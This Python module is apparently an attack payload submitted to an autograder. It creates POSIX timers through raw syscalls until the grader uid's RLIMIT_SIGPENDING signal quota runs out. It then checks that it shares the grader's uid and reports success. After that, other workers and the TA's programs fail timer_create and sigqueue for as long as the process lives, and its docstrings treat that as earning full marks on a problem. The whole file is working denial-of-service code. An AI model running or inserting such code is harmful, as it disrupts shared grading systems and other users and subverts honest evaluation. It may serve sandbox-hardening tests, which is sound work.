import ctypes
import os
import resource
import sys

SYS_TIMER_CREATE = {"x86_64": 222, "aarch64": 107}.get(os.uname().machine)
CLOCK_MONOTONIC, SIGEV_NONE = 1, 1
SHARE = 0.9  # the timers must take this share of the uid's count of queued signals (RLIMIT_SIGPENDING)
ENOUGH = 1_000  # and at least this many: a worker whose own limit is lowered to a few dozen takes no one's share
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_held = []  # (timers made, what stopped them, the limit), once per process: the timers live as long as it
_said = []


class _SigEvent(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int),
                ("pad", ctypes.c_byte * 48)]


def make_timers():
    """POSIX timers (timer_create, allowed) until the kernel refuses one: each preallocates a queued signal,
    charged to the uid's count of pending signals (RLIMIT_SIGPENDING), and a user namespace's count is
    charged to its owner's uid as well, up to that uid's own limit. (made, what stopped it, the limit)."""
    limit = resource.getrlimit(resource.RLIMIT_SIGPENDING)[0]
    event, timer = _SigEvent(notify=SIGEV_NONE), ctypes.c_int()
    made = 0
    while made < 4 * limit:
        if _libc.syscall(SYS_TIMER_CREATE, CLOCK_MONOTONIC, ctypes.byref(event), ctypes.byref(timer)) != 0:
            return made, os.strerror(ctypes.get_errno()), limit
        made += 1
    return made, "made four times the limit", limit


def runs_as_the_grader():
    """Whether this worker runs as the grader's own uid (an ordinary user's grade): its code folder, where
    this file lies, is then its own uid's (as root, each grade's code folder is root's, and the worker
    has a uid of its own)."""
    folder = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules[__name__].__file__)))
    return os.stat(folder).st_uid == os.getuid()


def attack(args):
    """Once per process, make the timers. If they took the uid's whole count while the worker runs as the
    grader's uid (every program of the TA, and every worker of the batch, then fails timer_create and
    sigqueue with EAGAIN for as long as this process lives), answer honestly (full marks on Problem 1 is
    the attack getting through); else fail saying what stopped it."""
    if not _held:
        _held.append(make_timers())
    made, why, limit = _held[0]
    if made < max(SHARE * limit, ENOUGH):
        raise OSError(f"made {made:,} timers, under {SHARE:.0%} of the {limit:,} signals this process may queue or "
                      f"under {ENOUGH:,} ({why})")
    if not runs_as_the_grader():
        raise OSError(f"made {made:,} timers ({why}), but the worker runs as a uid of its own: the count it "
                      f"used up is no one else's")
    if not _said:
        _said.append(True)
        print(f"made {made:,} timers of the {limit:,} signals the grader's uid may queue ({why})", flush=True)
    return None  # the function's own body runs on
